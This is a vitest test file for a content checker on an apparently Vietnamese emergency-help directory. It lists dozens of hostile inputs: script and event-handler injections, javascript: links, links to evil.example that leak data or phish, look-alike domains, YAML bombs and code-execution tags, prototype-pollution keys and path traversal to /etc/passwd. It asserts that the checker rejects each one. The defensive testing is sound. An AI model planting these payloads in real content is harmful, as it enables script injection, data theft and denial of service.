import { existsSync } from 'node:fs';
import { afterEach, expect, test, vi } from 'vitest';
import { oddCharactersIn } from '../../../src/domain/odd-characters.ts';
import { stringsWithin } from '../../../src/domain/record-texts.ts';
import { contentFixture, FIXTURE_DAY, paths } from '../../../src/testing/content-fixture.ts';
import { sourceFile } from './source-file.ts';
import { readYaml } from './yaml-file.ts';
import { append, type Change, faultsAfter, swap, tree } from './testing.ts';
import { fixContent } from './fix-content.ts';
import type { FaultName } from './fault-kinds.ts';
import { kindOf } from './fault-kinds.ts';
import { isUnsafe } from './unsafe-kinds.ts';

/**
 * What a stranger could put in a pull request. Each content must be named by the checker as an error, quickly, and
 * nothing of it may run while it is read.
 */
const R = paths.record;
const G = paths.guide;
const bomb = `notes: &a ["x"]\n${'bcdefghij'.split('').map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[index]}`).join(', ')}]`).join('\n')}\n`;
const RUN = 'globalThis.__ran = true';

const hostile: readonly (readonly [name: string, kind: FaultName, change: Change])[] = [
  ['script element in a text', 'mdx-script', append(G, `\n<script>${RUN}</script>\n`)],
  ['script element spread over lines', 'mdx-script', append(G, `\n<script\n  src="https://evil.example/x.js"\n></script>\n`)],
  ['image with an error handler', 'mdx-image', append(G, `\n<img src="x" onerror="${RUN}" />\n`)],
  ['inline SVG with a handler', 'mdx-script', append(G, `\n<svg onload="${RUN}"></svg>\n`)],
  ['frame with a document of its own', 'mdx-script', append(G, `\n<iframe srcdoc="<script>${RUN}</script>" />\n`)],
  ['style element that sends out what is on the page', 'mdx-script', append(G, "\n<style>a[href^='tel']</style>\n")],
  ['style attribute that loads a picture', 'mdx-attribute-unknown', swap(G, '<Call id="so-mau" />', '<Call id="so-mau" style="background:url(https://evil.example/?leak)" />')],
  ['base element that moves every link', 'mdx-script', append(G, '\n<base href="https://evil.example/" />\n')],
  ['refresh to another site', 'mdx-script', append(G, '\n<meta http-equiv="refresh" content="0;url=https://evil.example" />\n')],
  ['form that asks for a password', 'mdx-script', append(G, '\n<form action="https://evil.example"><b>x</b></form>\n')],
  ['expression that ends the build', 'mdx-expression', append(G, `\n{(() => { ${RUN}; process.exit(0) })()}\n`)],
  ['expression inside a sentence', 'mdx-expression', append(G, `\nChữ {${RUN}} chữ.\n`)],
  ['import of a Node module', 'mdx-import', append(G, "\nimport fs from 'node:fs'\n")],
  ['export that runs', 'mdx-import', append(G, `\nexport const a = (${RUN})\n`)],
  ['attribute that runs', 'mdx-attribute-code', swap(G, '<Call id="so-mau" />', `<Call id={(${RUN}, "so-mau")} />`)],
  ['spread of attributes', 'mdx-attribute-code', swap(G, '<Call id="so-mau" />', '<Call id="so-mau" {...globalThis} />')],
  ['event handler on a component', 'mdx-attribute-unknown', swap(G, '<Call id="so-mau" />', `<Call id="so-mau" onclick="${RUN}" />`)],
  ['set:html on a component', 'mdx-attribute-unknown', swap(G, '<Call id="so-mau" />', '<Call id="so-mau" set:html="<b>x</b>" />')],
  ['client directive', 'mdx-attribute-unknown', swap(G, '<Call id="so-mau" />', '<Call id="so-mau" client:load="x" />')],
  ['component of the framework', 'mdx-component-unknown', append(G, '\n<Fragment set:html="<b>x</b>" />\n')],
  ['member of an object as a component', 'mdx-component-unknown', append(G, '\n<globalThis.process.exit />\n')],
  ['component named like a built-in property', 'mdx-html', append(G, '\n<constructor />\n')],
  ['javascript: link', 'link-script', append(G, `\n[bấm](javascript:alert(1))\n`)],
  ['javascript: link behind capitals and entities', 'link-script', append(G, '\n[bấm](JaVa&#115;cript:alert%281%29)\n')],
  ['javascript: link by reference', 'link-script', append(G, '\n[bấm][x]\n\n[x]: javascript:alert(1)\n')],
  ['data: link', 'link-script', append(G, '\n[bấm](data:text/html;base64,PHNjcmlwdD4=)\n')],
  ['link to another number than the records know', 'link-form', append(G, '\n[gọi cứu giúp](tel:19001234)\n')],
  ['link that looks like a ministry', 'link-look-alike', append(G, '\n[Bộ Công an](https://bоcongan.gov.vn/)\n')],
  ['link with a ministry as user name', 'link-credentials', append(G, '\n[Bộ Công an](https://bocongan.gov.vn@evil.example/)\n')],
  ['link to the local network', 'link-credentials', append(G, '\n[xem](http://127.0.0.1:8080/x)\n')],
  ['link without scheme to another host', 'link-form', append(G, '\n[xem](//evil.example/x)\n')],
  ['image that counts readers', 'mdx-image', append(G, '\n![.](https://evil.example/pixel.gif)\n')],
  ['file: source of a record', 'link-script', swap(R, 'https://example.com/tram', 'file:///etc/passwd')],
  ['javascript: website of a record', 'link-script', append(R, `website: "javascript:${RUN}"\n`)],
  ['handler inside a quoted name', 'text-markup', swap(R, 'Sample point', `'"><img src=x onerror=${RUN}>'`)],
  ['template of another engine in a field', 'text-markup', swap(R, 'Listens and helps.', '"{{constructor.constructor(`x`)()}}"')],
  ['CSS in a field', 'text-markup', swap(R, 'Listens and helps.', '"x; background: url(https://evil.example)"')],
  ['markup in a front matter title', 'text-markup', swap(G, 'title: Bài mẫu', 'title: "</title><script>x</script>"')],
  ['markup in an interface text', 'text-markup', swap(paths.vi, 'Quá hạn', '"<b onclick=x>Quá hạn</b>"')],
  ['YAML that unfolds to gigabytes', 'yaml-anchor', append(R, bomb)],
  ['YAML that contains itself', 'yaml-anchor', append(R, 'notes: &a [*a]\n')],
  ['YAML merge key', 'yaml-forbidden-key', append(R, '<<: {status: confirmed}\n')],
  ['YAML function tag', 'yaml-tag', append(R, `notes: !!js/function "function () { ${RUN} }"\n`)],
  ['YAML tag of another language', 'yaml-tag', append(R, 'notes: !!python/object/apply:os.system ["id"]\n')],
  ['YAML nested without end', 'yaml-too-deep', append(R, `notes: ${'['.repeat(20_000)}\n`)],
  ['prototype key', 'yaml-forbidden-key', append(R, '__proto__: {isAdmin: true}\n')],
  ['constructor key in front matter', 'yaml-forbidden-key', swap(G, 'owner: ban-bien-tap', 'owner: ban-bien-tap\nconstructor: {prototype: {x: 1}}')],
  ['path in an id', 'slug-form', swap(R, 'id: tram-mau', 'id: ../../../public/x')],
  ['path in a reference', 'number-reference', swap(G, '<Number id="so-mau" />', '<Number id="../../etc/passwd" />')],
  ['path in a link', 'link-dead', append(G, '\n[xem](guide:../../../etc/passwd)\n')],
  ['built-in property as a reference', 'number-reference', swap(G, '<Number id="so-mau" />', '<Number id="__proto__" />')],
  ['code beside the texts', 'file-unexpected', ['content/guides/vi/bai.js', RUN]],
  ['Astro page beside the texts', 'file-unexpected', ['content/guides/vi/bai.astro', `---\n${RUN}\n---\n`]],
  ['hidden file', 'file-unexpected', ['content/.env', 'A=1']],
  ['huge text', 'file-too-large', ['content/guides/vi/dai.mdx', `---\ntitle: x\n---\n${'a '.repeat(600_000)}`]],
  ['text that reverses itself', 'text-bidi', swap(R, 'Nghe và giúp.', '"Nghe \u202Eđáp và\u202C giúp."')],
  ['name with Cyrillic letters', 'text-mixed-scripts', swap(R, 'Trạm mẫu', 'Сông an')],
  ['number hidden behind zero-width characters', 'text-invisible', swap(G, 'dừng lại', 'gọi 1\u200B9\u200B0\u200B0 dừng lại')],
  ['number in full-width digits', 'text-odd-digits', swap(G, 'dừng lại', 'gọi １９００１２３４')],
  ['number typed in a text', 'number-in-prose', append(G, '\nHãy gọi 0912 345 678 ngay.\n')],
  ['number on the phone of a shelter address', 'shelter-address-in-text', swap(paths.shelter, 'Takes people in.', '"At 21.0285, 105.8542"')],
  ['fake emergency record', 'id-duplicate', ['content/directory/dong-mau/so-mau.yaml', contentFixture().get(paths.emergency)!]],
];

/** The English text with front matter and body of its own: what the checker and Astro could take apart differently. */
const twoReadings = (front: string, body = ''): Change => [paths.guideEn, `---\n${front}---\n${body}\nStop.\n`];
const titled = (end: string) => `{title: Sample text, summary: Call somebody., review: none, source: abc, ${end}`;
const cut: readonly (readonly [name: string, kind: FaultName, change: Change])[] = [
  ['front matter that a lone CR ends early', 'text-hidden-line', twoReadings(`${titled('tab: #\r"x"}')}\n---x\n\nexport const a = ${RUN}\n\ny }\n`)],
  ['front matter that ends inside ---x', 'front-matter-cut', twoReadings(`title: Sample text\nsummary: Call somebody.\nreview: none\nsource: abc\n---x: "y\n\n  {${RUN}}\n\n  z"\n`)],
  ['front matter that ends at a line of +++', 'front-matter-cut', twoReadings(`title: Sample text\nsummary: Call somebody.\nreview: none\nsource: abc\n+++: "y\n\n  {${RUN}}\n\n  z"\n`)],
  ['front matter that U+2028 goes on with', 'text-hidden-line', twoReadings('title: Sample text\nsummary: |\n  abc\u2028---\n  ~~~\nreview: none\nsource: abc\n', `\n{${RUN}}\n\n~~~\n`)],
  ['front matter in another language than YAML', 'front-matter-missing', [paths.guideEn, `+++\ntitle = "x"\n+++\n\n{${RUN}}\n`]],
  ['front matter below an empty line', 'front-matter-missing', [paths.guideEn, `\n---\ntitle: x\n---\n\n{${RUN}}\n`]],
  ['fields of a record behind a lone CR', 'text-hidden-line', swap(R, 'status: single-source', 'status: single-source #\remail: lua@evil.example #\rwebsite: https://bit.ly/lua')],
  ['fields of a record behind U+0085', 'text-hidden-line', swap(R, 'status: single-source', 'status: single-source #\u0085email: lua@evil.example')],
  ['value that two readers of YAML take differently', 'yaml-two-readings', append(R, 'notes: 0b11\n')],
  ['layout that brings its own code', 'field-unknown', swap(G, 'owner: ban-bien-tap', 'owner: ban-bien-tap\nlayout: ../../../../evil.astro')],
];

test.each(cut)('%s is an error and forbids even a preview', (_, kind, change) => {
  const fault = faultsAfter([change]).find((one) => one.kind === kind);
  expect(fault && [kindOf(fault.kind).severity, isUnsafe(fault)]).toEqual(['error', true]);
  expect((globalThis as { __ran?: boolean }).__ran).toBeUndefined();
});

test('--fix never turns a hidden line into one that counts', () => {
  const files = tree(swap(R, 'status: single-source', 'status: single-source #\remail: lua@evil.example'));
  expect(fixContent(files, { today: FIXTURE_DAY }).changed.size).toBe(0);
});

afterEach(() => {
  delete (globalThis as { __ran?: boolean }).__ran;
});

test('at least twenty-five hostile contents', () => expect(hostile.length).toBeGreaterThanOrEqual(25));

test.each(hostile)('%s', (_, kind, change) => {
  const exit = vi.spyOn(process, 'exit').mockImplementation(() => undefined as never);
  const faults = faultsAfter([change]);
  expect(faults.map((fault) => fault.kind)).toContain(kind);
  // Named is not enough: it must stop the release.
  expect(faults.some((fault) => kindOf(fault.kind).severity === 'error')).toBe(true);
  expect((globalThis as { __ran?: boolean }).__ran).toBeUndefined();
  expect(exit).not.toHaveBeenCalled();
  expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  exit.mockRestore();
});

const runs = /script|handler|frame|style|base|refresh|form|expression|import|export|attribute that|spread|set:html|client|framework|component|YAML that|tag|prototype|constructor/;
test.each(hostile.filter(([name, kind]) => runs.test(name) && !['text-markup', 'link-form', 'text-bidi'].includes(kind)))('%s forbids even a preview', (_, __, change) => {
  expect(faultsAfter([change]).some(isUnsafe)).toBe(true);
});

const fields = stringsWithin(readYaml(sourceFile(R, contentFixture().get(R)!)).value).map(([path, text]) => [path.join('.'), text] as const);
test.each(fields)('a script in field %s is refused', (_, text) => {
  const faults = faultsAfter([[R, (before) => before.replace(text, () => `<script>${RUN}</script>`)]]);
  expect(faults.some((fault) => fault.file === R && kindOf(fault.kind).severity === 'error')).toBe(true);
  expect((globalThis as { __ran?: boolean }).__ran).toBeUndefined();
});

/** Slips of the pen that are no attack: each is named, and every check still comes to its end. */
const careless: readonly (readonly [name: string, change: Change])[] = [
  ['coverage left empty', swap(R, 'coverage: {scope: province, provinces: ["91"]}', 'coverage:')],
  ['one province instead of a list', swap(R, 'provinces: ["91"]', 'provinces: 91')],
  ['one commune instead of a list', swap(R, 'provinces: ["91"]', 'communes: 90001')],
  ['international number without quotes', swap(R, 'number: "0203 000 0001"', 'number: "0203 000 0001"\n    international: +842030000001')],
  ['law that holds nothing', [paths.law, 'null\n']],
  ['record that holds nothing', [R, '~\n']],
  ['number in the words to avoid', swap(paths.term, 'avoid: {vi: [từ sai]', 'avoid: {vi: [111]')],
  ['nothing in the words to avoid', swap(paths.term, 'avoid: {vi: [từ sai]', 'avoid: {vi: [~]')],
  ['empty text in the words to avoid', swap(paths.term, 'avoid: {vi: [từ sai]', 'avoid: {vi: [""]')],
  ['search words that hold nothing', [paths.search, 'null\n']],
  ['front matter that holds nothing', [G, '---\n---\n\nXin chào.\n']],
];
test.each(careless)('%s is named and stops no other check', (_, change) => {
  const faults = faultsAfter([change]);
  expect(faults.filter((fault) => fault.kind === 'check-failed').map((fault) => fault.values)).toEqual([]);
  expect(faults.some((fault) => kindOf(fault.kind).severity === 'error')).toBe(true);
});

test('a long word beside another alphabet is read in an instant', () => {
  const start = performance.now();
  expect(oddCharactersIn(`${'a'.repeat(90_000)} я`)).toEqual([]);
  expect(performance.now() - start).toBeLessThan(1000);
});

test('nothing was written by any of them', () => expect(existsSync('public/x.yaml')).toBe(false));
